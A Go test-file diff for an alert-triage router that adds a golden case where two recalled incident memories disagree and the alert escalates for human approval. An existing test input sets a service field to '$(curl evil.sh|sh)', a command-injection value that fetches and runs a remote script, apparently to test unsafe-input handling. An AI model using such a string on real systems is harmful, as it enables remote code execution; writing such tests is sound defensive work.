@@ -67,6 +67,14 @@ func cases() []golden {
 		Fingerprint: http5FP,
 		Triage:      openrecall.TriageResult{Decision: openrecall.DecisionEscalated, RequiresHumanApproval: true},
 	}
+	// Two memories recalled that disagree: nothing vouches, and the
+	// summary says memories were recalled, not that there were none.
+	mixed := noMemory
+	mixed.Matches = []openrecall.Match{
+		match("inc_m1", openrecall.DecisionReal, http5FP, 0.91, "rolled back the deploy"),
+		match("inc_m2", openrecall.DecisionKnownBenign, http5FP, 0.9, "load test traffic"),
+	}
+	mixed.Triage = openrecall.TriageResult{Decision: openrecall.DecisionEscalated, RequiresHumanApproval: true, BestScore: 0.91, StrongCount: 2, ConsistentCount: 1, Consistency: 0.5}
 	unknown := routing.Input{
 		Alert:  openrecall.Alert{ID: "txt-3", Title: "something odd happened", Severity: openrecall.SeverityMedium, Service: "$(curl evil.sh|sh)"},
 		Triage: openrecall.TriageResult{Decision: openrecall.DecisionEscalated},
@@ -89,6 +97,7 @@ func cases() []golden {
 		{"strong_unknown_unsafe_service", local.NewStrong(), unknown},
 		{"strong_pool_exhausted_real_memory", local.NewStrong(), pool},
 		{"cheap_crashloop_unknown_severity", local.NewCheap(), crashUnknown},
+		{"strong_prod_critical_mixed_memory", local.NewStrong(), mixed},
 	}
 }
 
@@ -165,6 +174,7 @@ func TestDecisions(t *testing.T) {
 		"cheap_crashloop_unknown_severity":  {openrecall.DecisionEscalated, 0.4},
 		"strong_attack_with_injection":      {openrecall.DecisionReal, 0.9},
 		"strong_prod_critical_no_memory":    {openrecall.DecisionReal, 0.7},
+		"strong_prod_critical_mixed_memory": {openrecall.DecisionReal, 0.7},
 		"strong_unknown_unsafe_service":     {openrecall.DecisionEscalated, 0.5},
 		"strong_pool_exhausted_real_memory": {openrecall.DecisionReal, 0.67},
 	}
